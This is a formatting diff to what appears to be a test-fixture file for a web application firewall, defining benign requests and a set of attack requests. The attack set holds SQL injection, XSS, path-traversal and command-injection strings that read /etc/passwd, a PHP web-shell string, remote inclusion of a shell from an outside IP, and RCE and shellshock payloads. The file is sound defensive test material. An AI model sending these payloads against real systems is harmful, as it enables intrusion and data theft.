@@ -12,10 +12,21 @@ export const BROWSER_HEADERS: Array<[string, string]> = [
 ];
 
 export function get(uri: string, extra: Array<[string, string]> = []): WafRequest {
-  return { method: 'GET', uri, httpVersion: '1.1', headers: [...BROWSER_HEADERS, ...extra], remoteAddr: '198.51.100.4' };
+  return {
+    method: 'GET',
+    uri,
+    httpVersion: '1.1',
+    headers: [...BROWSER_HEADERS, ...extra],
+    remoteAddr: '198.51.100.4',
+  };
 }
 
-export function post(uri: string, type: string, body: string, extra: Array<[string, string]> = []): WafRequest {
+export function post(
+  uri: string,
+  type: string,
+  body: string,
+  extra: Array<[string, string]> = [],
+): WafRequest {
   const bytes = Buffer.from(body, 'utf8');
   return {
     method: 'POST',
@@ -27,11 +38,16 @@ export function post(uri: string, type: string, body: string, extra: Array<[stri
   };
 }
 
-export function multipartBody(boundary: string, parts: Array<{ name: string; value: string; filename?: string; type?: string }>): string {
+export function multipartBody(
+  boundary: string,
+  parts: Array<{ name: string; value: string; filename?: string; type?: string }>,
+): string {
   const lines: string[] = [];
   for (const p of parts) {
     lines.push(`--${boundary}`);
-    lines.push(`Content-Disposition: form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ''}`);
+    lines.push(
+      `Content-Disposition: form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ''}`,
+    );
     if (p.type) lines.push(`Content-Type: ${p.type}`);
     lines.push('', p.value);
   }
@@ -49,11 +65,16 @@ export const BENIGN: Record<string, WafRequest> = {
   'home page': get('/'),
   'static asset': get('/static/app.3f9c2b.js'),
   'search with cookies': get('/search?q=blue+running+shoes&sort=price_asc&page=2', [COOKIE]),
-  'natural language query': get("/search?q=what%27s+the+best+way+to+cook+rice%3F", [COOKIE]),
+  'natural language query': get('/search?q=what%27s+the+best+way+to+cook+rice%3F', [COOKIE]),
   'API GET with bearer token': get('/api/v1/places?lat=51.5072&lng=-0.1276&radius=500&limit=20', [
     ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl'],
   ]),
-  'login form': post('/login', 'application/x-www-form-urlencoded', 'username=ada.lovelace&password=correct+horse+battery&remember=on', [COOKIE]),
+  'login form': post(
+    '/login',
+    'application/x-www-form-urlencoded',
+    'username=ada.lovelace&password=correct+horse+battery&remember=on',
+    [COOKIE],
+  ),
   'contact form': post(
     '/contact',
     'application/x-www-form-urlencoded',
@@ -63,9 +84,20 @@ export const BENIGN: Record<string, WafRequest> = {
   'JSON API create': post(
     '/api/v1/orders',
     'application/json',
-    JSON.stringify({ customer: { name: 'Ada Lovelace', email: 'ada@example.com' }, items: [{ sku: 'SKU-1', qty: 2 }, { sku: 'SKU-7', qty: 1 }], note: 'Leave at the door, please.' }),
+    JSON.stringify({
+      customer: { name: 'Ada Lovelace', email: 'ada@example.com' },
+      items: [
+        { sku: 'SKU-1', qty: 2 },
+        { sku: 'SKU-7', qty: 1 },
+      ],
+      note: 'Leave at the door, please.',
+    }),
   ),
-  'JSON API with charset': post('/api/v1/profile', 'application/json; charset=utf-8', JSON.stringify({ displayName: 'Zoë', bio: 'Coffee, maps and long walks.', tags: ['travel', 'food'] })),
+  'JSON API with charset': post(
+    '/api/v1/profile',
+    'application/json; charset=utf-8',
+    JSON.stringify({ displayName: 'Zoë', bio: 'Coffee, maps and long walks.', tags: ['travel', 'food'] }),
+  ),
   'multipart upload': post(
     '/upload',
     'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
@@ -74,25 +106,49 @@ export const BENIGN: Record<string, WafRequest> = {
       { name: 'photo', value: 'JFIFDATA0123456789', filename: 'beach.jpg', type: 'image/jpeg' },
     ]),
   ),
-  'XML API': post('/api/soap', 'text/xml', '<?xml version="1.0"?><order id="42"><item sku="A1">Shirt</item><qty>2</qty></order>'),
+  'XML API': post(
+    '/api/soap',
+    'text/xml',
+    '<?xml version="1.0"?><order id="42"><item sku="A1">Shirt</item><qty>2</qty></order>',
+  ),
 };
 
 export const ATTACKS: Record<string, WafRequest> = {
   'SQLi tautology': get("/item?id=1'%20or%20'1'%3D'1"),
   'SQLi union select': get('/item?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--'),
-  'SQLi in JSON body': post('/api/login', 'application/json', JSON.stringify({ user: "admin' --", pass: "x' OR 1=1 --" })),
+  'SQLi in JSON body': post(
+    '/api/login',
+    'application/json',
+    JSON.stringify({ user: "admin' --", pass: "x' OR 1=1 --" }),
+  ),
   'XSS script tag': get('/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'),
-  'XSS event handler in form': post('/comment', 'application/x-www-form-urlencoded', 'text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'),
+  'XSS event handler in form': post(
+    '/comment',
+    'application/x-www-form-urlencoded',
+    'text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
+  ),
   'path traversal': get('/download?file=..%2F..%2F..%2Fetc%2Fpasswd'),
   'command injection': get('/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd'),
-  'PHP injection': post('/form', 'application/x-www-form-urlencoded', 'data=%3C%3Fphp+system(%24_GET%5Bcmd%5D)%3B+%3F%3E'),
+  'PHP injection': post(
+    '/form',
+    'application/x-www-form-urlencoded',
+    'data=%3C%3Fphp+system(%24_GET%5Bcmd%5D)%3B+%3F%3E',
+  ),
   'remote file inclusion': get('/page?include=http://203.0.113.9/shell.txt?'),
   'Java deserialization / RCE': get('/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)'),
-  'Node.js injection': post('/eval', 'application/x-www-form-urlencoded', "code=require('child_process').exec('id')"),
+  'Node.js injection': post(
+    '/eval',
+    'application/x-www-form-urlencoded',
+    "code=require('child_process').exec('id')",
+  ),
   'shellshock header': get('/cgi-bin/status', [['X-Forwarded-For', '() { :; }; /bin/bash -c "id"']]),
   'scanner user agent': {
     ...get('/'),
-    headers: [['Host', 'www.example.com'], ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'], ['Accept', '*/*']],
+    headers: [
+      ['Host', 'www.example.com'],
+      ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
+      ['Accept', '*/*'],
+    ],
   },
   'session fixation': get('/login?PHPSESSID=abc123;jsessionid=xyz'),
   'XSS in cookie': get('/', [['Cookie', 'pref=%3Cscript%3Ealert(1)%3C/script%3E']]),
